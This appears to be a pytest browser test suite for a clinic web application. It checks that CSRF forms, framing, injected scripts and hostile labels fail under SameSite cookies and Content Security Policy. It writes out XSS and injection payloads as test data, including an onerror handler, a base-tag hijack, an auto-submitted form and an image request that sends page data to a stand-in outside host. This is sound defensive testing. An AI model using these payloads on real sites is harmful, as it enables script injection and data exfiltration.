"""What a page of another origin or a label tries comes to nothing in a real Chromium."""

from __future__ import annotations

from collections.abc import Iterator

import pytest
from starlette.applications import Starlette
from starlette.requests import Request
from starlette.responses import HTMLResponse
from starlette.routing import Route

from tests.rigs.browser import Browser, Visit
from tests.rigs.clinic_server import ClinicServer
from tests.rigs.server_thread import ServerThread
from tests.sync.clinic.browser.conftest import Visiting
from tests.sync.clinic.browser.pages import PAGES, sign_in

_APPENDED = "document.body.append(Object.assign(document.createElement('{}'), {{ {} }}))"
_INSERTED = "document.body.insertAdjacentHTML('beforeend', `{}`)"
PUT_IN = (
    _APPENDED.format("script", "textContent: 'document.title = `ran`'"),
    _APPENDED.format("base", "href: 'http://clinic.example/'"),
    _APPENDED.format("form", "action: 'http://clinic.example/', id: 'out'") + "; document.forms.out.submit()",
    _INSERTED.format("<img src=/static/none.png onerror=\"document.title = 'ran'\">"),
    _INSERTED.format("<p style='position: fixed' id=styled>x</p>"),
    _INSERTED.format("<iframe src=/privacy></iframe>"),
    "fetch('/patients').catch(() => 0)",
    "new Image().src = 'http://clinic.example/?' + document.title",
)


@pytest.fixture
def elsewhere() -> Iterator[ServerThread]:
    """Pages of another origin: `/form?to=…&csrf=…` holds a form, `/frame?of=…` a frame."""

    async def form(request: Request) -> HTMLResponse:
        to, csrf = request.query_params["to"], request.query_params.get("csrf", "")
        fields = "".join(
            f"<input type=hidden name={name} value='{value}'>"
            for name, value in {"label": "planted", "days": "14", "csrf": csrf}.items()
        )
        return HTMLResponse(f"{_HEAD}<form method=post action='{to}'>{fields}<button>Win a prize</button></form>")

    async def frame(request: Request) -> HTMLResponse:
        return HTMLResponse(f"{_HEAD}<iframe src='{request.query_params['of']}'></iframe>")

    with ServerThread(Starlette(routes=[Route("/form", form), Route("/frame", frame)])) as server:
        yield server


_HEAD = "<!doctype html><html lang=en><title>elsewhere</title><link rel=icon href=data:,>"


def _pairings(server: ClinicServer) -> object:
    return server.rig.rows("SELECT pseudonym, label FROM pairings ORDER BY pseudonym")


@pytest.mark.parametrize("host", ["127.0.0.1", "localhost"])
@pytest.mark.parametrize("knows_the_token", [False, True])
def test_a_form_of_another_origin_changes_nothing(
    browser: Browser, small: ClinicServer, elsewhere: ServerThread, host: str, knows_the_token: bool
) -> None:
    """From the same site, which SameSite=Strict lets through, and from another; even with a token that was seen."""
    other = f"http://{host}:{elsewhere.port}"
    with browser.visit(small.url, other) as visit:
        sign_in(visit, "/pair")
        csrf = visit.page.locator("input[name=csrf]").first.get_attribute("value") if knows_the_token else ""
        before = _pairings(small)
        page = visit.page
        page.goto(f"{other}/form?to={small.url}/pair&csrf={csrf}")
        with page.expect_response(f"{small.url}/pair") as answer:
            page.get_by_role("button").click()
        assert answer.value.status == 403
        page.wait_for_load_state()
        visit.drop_status(403)
        assert _pairings(small) == before


def test_no_page_shows_in_a_frame(browser: Browser, story: ClinicServer, elsewhere: ServerThread) -> None:
    with browser.visit(story.url, elsewhere.url) as visit:
        sign_in(visit)
        for path in (*PAGES.values(), "/sign-in"):
            page = visit.page
            page.goto(f"{elsewhere.url}/frame?of={story.url}{path}")
            frame = page.frames[1]
            frame.wait_for_load_state()
            assert frame.url.startswith("chrome-error:"), path
            assert any("frame-ancestors" in each for each in visit.taken()), path


def _after(visit: Visit, script: str) -> list[str]:
    visit.page.evaluate(script)
    for _ in range(50):
        visit.page.wait_for_timeout(100)
        if any("Content Security Policy" in each for each in visit.complaints):
            break
    return visit.taken()


def test_what_gets_into_a_page_does_not_run_there(visiting: Visiting) -> None:
    with visiting() as visit:
        for script in PUT_IN:
            page = visit.go("/")
            assert any("Content Security Policy" in each for each in _after(visit, script)), script
            assert page.title() != "ran"
            assert page.url == f"{visit.url}/"
            assert page.evaluate("document.baseURI") == f"{visit.url}/"
            assert page.locator("#styled").evaluate_all("all => all.map(e => getComputedStyle(e).position)") in (
                [],
                ["static"],
            )


def test_a_label_that_means_harm_is_shown_as_text(visiting: Visiting) -> None:
    with visiting() as visit:
        for name in ("script as a label", "patients", "today", "right to left"):
            page = visit.go(PAGES[name])
            assert "ran" not in page.title().split()
            assert page.locator("main script, main img[src=x]").count() == 0
        page = visit.go(PAGES["script as a label"])
        assert page.get_by_text("<script>document.title = 'ran'</script>").count() >= 1
